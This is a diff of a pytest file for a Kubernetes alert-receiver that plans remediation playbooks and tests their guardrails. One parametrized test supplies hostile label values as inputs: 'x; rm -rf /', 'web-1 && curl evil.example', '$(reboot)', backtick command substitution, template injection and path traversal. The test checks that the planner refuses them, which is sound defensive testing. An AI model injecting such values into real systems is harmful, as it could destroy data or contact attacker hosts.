@@ -13,10 +13,11 @@ from receiver.incidents.severity import Severity
 from receiver.playbooks.model import Playbook, load_dirs, load_file, schema
 from receiver.playbooks.plan import AlertFacts, NamespacePolicy, plan, plans, triggers
 from receiver.playbooks.templating import TemplateError, render
-from tests.conftest import FIXTURES
+from tests.corpus import CorpusAlert, alert, payload
 
 ROOT = Path(__file__).resolve().parent.parent
 SHIPPED = ROOT / "playbooks"
+EXAMPLES = ROOT / "examples" / "playbooks"
 T0 = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
 NAMESPACES = NamespacePolicy()
 
@@ -25,21 +26,41 @@ def facts(status: str = "firing", **labels: str) -> AlertFacts:
     return AlertFacts("0123456789abcdef", status, {"alertname": "KubePodCrashLooping", **labels}, {}, T0)
 
 
-def shipped(name: str) -> Playbook:
-    found = load_file(SHIPPED / f"{name}.yaml")
+def real(corpus: CorpusAlert, status: str = "firing", without: str = "") -> AlertFacts:
+    """A corpus alert as the planner sees it (``without`` one of its labels: an alert that lacks it)."""
+    labels = {k: v for k, v in corpus.labels.items() if k != without}
+    return AlertFacts("0123456789abcdef", status, labels, corpus.annotations, T0)
+
+
+def shipped(name: str, directory: Path = SHIPPED) -> Playbook:
+    found = load_file(directory / f"{name}.yaml")
     assert isinstance(found, Playbook), found
     return found
+
+
+def example(name: str) -> Playbook:
+    return shipped(name, EXAMPLES)
 
 
 def test_the_shipped_playbooks_load_and_the_published_schema_is_current() -> None:
     loaded = load_dirs([SHIPPED])
     assert loaded.problems == ()
     assert {p.name for p in loaded.playbooks} == {
+        "kube-pod-crash-looping",
+        "kube-deployment-rollout-stuck",
+        "kube-container-waiting",
+        "kube-hpa-maxed-out",
+        "kube-persistent-volume-filling-up",
+        "kube-node-not-ready",
+    }
+    examples = load_dirs([EXAMPLES])
+    assert examples.problems == ()
+    assert {p.name for p in examples.playbooks} == {
         "crashloop",
-        "high-memory",
-        "api-error-rate",
-        "db-pool-exhausted",
+        "high-error-rate",
+        "database-pool-exhausted",
         "capacity-saturation",
+        "container-memory-high",
     }
     published = json.loads((SHIPPED / "schema" / "playbook-v1.json").read_text())
     assert published == schema(), "regenerate: receiver playbooks schema > playbooks/schema/playbook-v1.json"
@@ -113,20 +134,31 @@ def test_unreadable_files_and_duplicate_names_are_problems_others_still_load(tmp
     assert "already the name of" in loaded.problems[0].message and "is not YAML" in loaded.problems[1].message
 
 
+ERRORS = AlertFacts("f", "firing", {"alertname": "HighErrorRate", "namespace": "api", "deployment": "api"}, {}, T0)
+"""The alert of your own that the high-error-rate example expects (kube-prometheus raises no HighErrorRate)."""
+
+
 @pytest.mark.parametrize(
-    ("name", "alert", "severity", "expected"),
+    ("found", "alert_facts", "severity", "expected"),
     [
-        ("crashloop", facts(namespace="shop", pod="p"), None, True),
-        ("crashloop", facts("resolved", namespace="shop", pod="p"), None, False),  # firing by default
-        ("high-memory", facts(namespace="shop"), None, False),  # another alert name
-        ("api-error-rate", AlertFacts("f", "firing", {"alertname": "HighErrorRate"}, {}, T0), Severity.SEV2, True),
-        ("api-error-rate", AlertFacts("f", "firing", {"alertname": "HighErrorRate"}, {}, T0), Severity.SEV1, True),
-        ("api-error-rate", AlertFacts("f", "firing", {"alertname": "HighErrorRate"}, {}, T0), Severity.SEV3, False),
-        ("api-error-rate", AlertFacts("f", "firing", {"alertname": "HighErrorRate"}, {}, T0), None, False),
+        (shipped("kube-pod-crash-looping"), real(alert("KubePodCrashLooping")), None, True),
+        (shipped("kube-pod-crash-looping"), real(alert("KubePodCrashLooping"), "resolved"), None, False),  # firing
+        (shipped("kube-hpa-maxed-out"), real(alert("KubePodCrashLooping")), None, False),  # another alert name
+        (shipped("kube-container-waiting"), real(alert("KubeContainerWaiting", reason="ErrImagePull")), None, True),
+        (
+            shipped("kube-container-waiting"),  # its label matcher: waiting for another reason than the image
+            real(alert("KubeContainerWaiting", reason="CreateContainerConfigError")),
+            None,
+            False,
+        ),
+        (example("high-error-rate"), ERRORS, Severity.SEV2, True),  # severity: SEV2 or worse
+        (example("high-error-rate"), ERRORS, Severity.SEV1, True),
+        (example("high-error-rate"), ERRORS, Severity.SEV3, False),
+        (example("high-error-rate"), ERRORS, None, False),  # no incident, no severity: not worse than SEV2
     ],
 )
-def test_triggers(name: str, alert: AlertFacts, severity: Severity | None, expected: bool) -> None:
-    assert triggers(shipped(name), alert, severity) is expected
+def test_triggers(found: Playbook, alert_facts: AlertFacts, severity: Severity | None, expected: bool) -> None:
+    assert triggers(found, alert_facts, severity) is expected
 
 
 def test_label_matchers_in_triggers(tmp_path: Path) -> None:
@@ -139,12 +171,13 @@ def test_label_matchers_in_triggers(tmp_path: Path) -> None:
 
 
 def test_a_plan_renders_every_step() -> None:
-    [found] = plans([shipped("crashloop")], facts(namespace="shop", pod="cart-7d9f-x", deployment="cart"), NAMESPACES)
+    crash = alert("KubePodCrashLooping", namespace="shop", pod="cart-7d9f-x")
+    [found] = plans([shipped("kube-pod-crash-looping")], real(crash), NAMESPACES)
     assert found.refused is None
     assert [(s.name, s.action, s.when) for s in found.steps] == [
         ("delete_pod", "delete_pod", None),
-        ("settle", "wait", None),
-        ("rollback", "rollout_undo", 'alert.status == "firing"'),
+        ("watch", "wait_for_ready", None),
+        ("rollback", "rollout_undo", None),
     ]
     assert dict(found.steps[0].inputs) == {
         "kind": "Pod",
@@ -152,26 +185,77 @@ def test_a_plan_renders_every_step() -> None:
         "name": "cart-7d9f-x",
         "timeout_seconds": 60.0,
     }
-    assert found.steps[2].inputs["max_age_seconds"] == 1800.0
+    of_the_pod = {"namespace": "shop", "owner_of": {"kind": "Pod", "name": "cart-7d9f-x"}}
+    assert dict(found.steps[1].inputs) == of_the_pod | {
+        "kinds": ["Deployment", "StatefulSet", "DaemonSet"],
+        "stable_seconds": 120.0,
+        "within_seconds": 360.0,
+        "timeout_seconds": 370.0,  # its within, plus 10s: the watch can finish
+    }
+    assert dict(found.steps[2].inputs) == of_the_pod | {
+        "kinds": ["Deployment"],
+        "max_age_seconds": 1800.0,
+        "timeout_seconds": 60.0,
+    }
+
+
+CRASH, WAITING, STUCK = "kube-pod-crash-looping", "kube-container-waiting", "kube-deployment-rollout-stuck"
+HPA, PVC, NODE = "kube-hpa-maxed-out", "kube-persistent-volume-filling-up", "kube-node-not-ready"
+ALERTS = {
+    CRASH: ("KubePodCrashLooping", None),
+    WAITING: ("KubeContainerWaiting", None),
+    STUCK: ("KubeDeploymentRolloutStuck", None),
+    HPA: ("KubeHpaMaxedOut", None),
+    PVC: ("KubePersistentVolumeFillingUp", "warning"),
+    NODE: ("KubeNodeNotReady", None),
+}
+"""Each shipped playbook's corpus alert (name, variant)."""
 
 
 @pytest.mark.parametrize(
-    ("labels", "refusal"),
+    ("name", "labels", "refusal"),
     [
-        ({"pod": "x; rm -rf /"}, "name 'x; rm -rf /' is not a valid DNS-1123 subdomain"),
-        ({"pod": "../../etc"}, "is not a valid DNS-1123 subdomain"),
-        ({"pod": "Cart"}, "is not a valid DNS-1123 subdomain"),
-        ({"pod": "a" * 254}, "is not a valid DNS-1123 subdomain"),
-        ({"pod": "{{ 7 * 7 }}"}, "name '{{ 7 * 7 }}' is not"),  # a label is a value: never rendered again
-        ({"pod": "p", "namespace": "kube-system"}, "namespace 'kube-system' is denied"),
-        ({"pod": "p", "namespace": "shop\nother"}, "is not a valid DNS-1123 label"),
-        ({"namespace": "shop"}, "has no attribute 'pod' (a label or value the alert does not have)"),
+        (CRASH, {"pod": "x; rm -rf /"}, "step 'delete_pod': name 'x; rm -rf /' is not a valid DNS-1123 subdomain"),
+        (CRASH, {"pod": "../../etc"}, "is not a valid DNS-1123 subdomain"),
+        (CRASH, {"pod": "Cart"}, "is not a valid DNS-1123 subdomain"),
+        (CRASH, {"pod": "a" * 254}, "is not a valid DNS-1123 subdomain"),
+        (CRASH, {"pod": "{{ 7 * 7 }}"}, "name '{{ 7 * 7 }}' is not"),  # a label is a value: never rendered again
+        (CRASH, {"namespace": "kube-system"}, "namespace 'kube-system' is denied"),
+        (CRASH, {"namespace": "shop\nother"}, "is not a valid DNS-1123 label"),
+        (WAITING, {"pod": "web-1 && curl evil.example"}, "step 'rollback': name 'web-1 && curl evil.example' is not"),
+        (WAITING, {"namespace": "kube-system"}, "step 'rollback': namespace 'kube-system' is denied"),
+        (STUCK, {"deployment": "$(reboot)"}, "step 'rollback': name '$(reboot)' is not a valid DNS-1123 subdomain"),
+        (HPA, {"horizontalpodautoscaler": "web`id`"}, "step 'raise_max': name 'web`id`' is not a valid DNS-1123"),
+        (PVC, {"persistentvolumeclaim": "../data"}, "step 'expand': name '../data' is not a valid DNS-1123"),
+        (PVC, {"namespace": "Shop"}, "step 'expand': namespace 'Shop' is not a valid DNS-1123 label"),
+        (NODE, {"node": "node-1\nnode-2"}, "step 'cordon': node name 'node-1\\nnode-2' is not"),  # quoted, one line
+        (NODE, {"node": "{{ alert }}"}, "step 'cordon': node name '{{ alert }}' is not"),
     ],
 )
-def test_hostile_or_missing_labels_are_refused_before_any_call(labels: dict[str, str], refusal: str) -> None:
-    alert = facts(**{"namespace": "shop", **labels}, deployment="cart")
-    found = plan(shipped("crashloop"), alert, NAMESPACES)
-    assert found.refused is not None and refusal in found.refused
+def test_hostile_labels_are_refused_before_any_call(name: str, labels: dict[str, str], refusal: str) -> None:
+    """A hostile value in a real alert's subject label refuses the whole run at planning: no step is called."""
+    alertname, variant = ALERTS[name]
+    found = plan(shipped(name), real(alert(alertname, variant, **labels)), NAMESPACES)
+    assert found.refused is not None and refusal in found.refused, found.refused
+
+
+@pytest.mark.parametrize(
+    ("name", "label"),
+    [
+        (CRASH, "pod"),
+        (CRASH, "namespace"),
+        (WAITING, "pod"),
+        (STUCK, "deployment"),
+        (HPA, "horizontalpodautoscaler"),
+        (PVC, "persistentvolumeclaim"),
+        (NODE, "node"),
+    ],
+)
+def test_a_missing_label_is_refused_before_any_call(name: str, label: str) -> None:
+    alertname, variant = ALERTS[name]
+    found = plan(shipped(name), real(alert(alertname, variant), without=label), NAMESPACES)
+    assert found.refused is not None
+    assert f"has no attribute '{label}' (a label or value the alert does not have)" in found.refused
 
 
 def test_the_sandbox_refuses_python_internals(tmp_path: Path) -> None:
@@ -199,28 +283,37 @@ def test_templates_see_only_their_values_not_jinjas_globals(template: str) -> No
 
 def test_allowed_namespaces() -> None:
     only_shop = NamespacePolicy(allow=("shop",))
-    assert plan(shipped("crashloop"), facts(namespace="shop", pod="p", deployment="d"), only_shop).refused is None
-    refused = plan(shipped("crashloop"), facts(namespace="billing", pod="p", deployment="d"), only_shop).refused
+    crash = shipped("kube-pod-crash-looping")
+    assert plan(crash, real(alert("KubePodCrashLooping", namespace="shop")), only_shop).refused is None
+    refused = plan(crash, real(alert("KubePodCrashLooping", namespace="billing")), only_shop).refused
     assert refused is not None and "namespace 'billing' is not allowed" in refused
+    # A node is in no namespace: the node alert's `namespace` is kube-state-metrics' (monitoring), not the node's.
+    node = real(alert("KubeNodeNotReady"))
+    assert node.labels["namespace"] == "monitoring"
+    assert plan(shipped("kube-node-not-ready"), node, only_shop).refused is None
 
 
 def test_cli_validate(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert cli.main(["playbooks", "validate", str(SHIPPED)]) == 0
-    assert "5 playbooks ok, 0 problems" in capsys.readouterr().err
+    assert "6 playbooks ok, 0 problems" in capsys.readouterr().err
     (tmp_path / "bad.yaml").write_text(VALID.replace("kind: Playbook", "kind: Nope"))
     assert cli.main(["playbooks", "validate", str(tmp_path)]) == 2
     assert f"{tmp_path / 'bad.yaml'}: kind: Input should be 'Playbook'" in capsys.readouterr().err
 
 
-def test_cli_plan_prints_what_would_run_for_a_captured_payload(capsys: pytest.CaptureFixture[str]) -> None:
-    payload = FIXTURES / "02-firing-crashlooping-3-pods.json"
-    assert cli.main(["playbooks", "plan", "--alert", str(payload), "--dir", str(SHIPPED), "--json"]) == 0
+def test_cli_plan_prints_what_would_run_for_a_webhook_payload(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    pods = [alert("KubePodCrashLooping", namespace="prod", pod=f"api-7d9f-{x}") for x in "abc"]
+    body = tmp_path / "crashlooping.json"
+    body.write_text(json.dumps(payload(pods, starts_at=T0, group_labels={"namespace": "prod"})))
+    assert cli.main(["playbooks", "plan", "--alert", str(body), "--dir", str(SHIPPED), "--json"]) == 0
     report = json.loads(capsys.readouterr().out)
-    assert len(report) == 3 and all(len(r["plans"]) == 1 for r in report)
+    assert len(report) == 3 and all([p["playbook"] for p in r["plans"]] == ["kube-pod-crash-looping"] for r in report)
     steps = report[0]["plans"][0]["steps"]
     assert steps[0]["inputs"] == {"kind": "Pod", "namespace": "prod", "name": "api-7d9f-a", "timeout_seconds": 60.0}
-    assert cli.main(["playbooks", "plan", "--alert", str(payload), "--dir", str(SHIPPED)]) == 0
-    assert "playbook crashloop" in capsys.readouterr().out
+    assert cli.main(["playbooks", "plan", "--alert", str(body), "--dir", str(SHIPPED)]) == 0
+    assert "playbook kube-pod-crash-looping: allowed" in capsys.readouterr().out
 
 
 def test_cli_plan_names_what_is_wrong_with_the_payload(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -231,19 +324,13 @@ def test_cli_plan_names_what_is_wrong_with_the_payload(tmp_path: Path, capsys: p
 
 
 def test_cli_plan_shows_what_the_guardrails_would_say(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    alert = {
-        "status": "firing",
-        "labels": {"alertname": "DatabaseConnectionPoolExhausted", "namespace": "shop", "deployment": "orders"},
-        "annotations": {},
-        "startsAt": "2026-11-22T09:00:00Z",
-    }
-    payload = tmp_path / "pool.json"
-    payload.write_text(json.dumps({"version": "4", "status": "firing", "alerts": [alert]}))
-    assert cli.main(["playbooks", "plan", "--alert", str(payload), "--dir", str(SHIPPED)]) == 0
-    assert "playbook db-pool-exhausted: allowed (needs approval)" in capsys.readouterr().out
+    body = tmp_path / "node.json"
+    body.write_text(json.dumps(payload([alert("KubeNodeNotReady")], starts_at=T0)))
+    assert cli.main(["playbooks", "plan", "--alert", str(body), "--dir", str(SHIPPED)]) == 0
+    assert "playbook kube-node-not-ready: allowed (needs approval)" in capsys.readouterr().out
     settings = tmp_path / "receiver.yml"
     settings.write_text("remediation: {guardrails: {dry_run: true, max_replicas: 1}}\n")
-    argv = ["playbooks", "plan", "--alert", str(payload), "--dir", str(SHIPPED), "--config", str(settings), "--json"]
+    argv = ["playbooks", "plan", "--alert", str(body), "--dir", str(SHIPPED), "--config", str(settings), "--json"]
     assert cli.main(argv) == 0
     [report] = json.loads(capsys.readouterr().out)
     assert report["plans"][0]["guardrails"] == "allowed (dry-run, needs approval)"
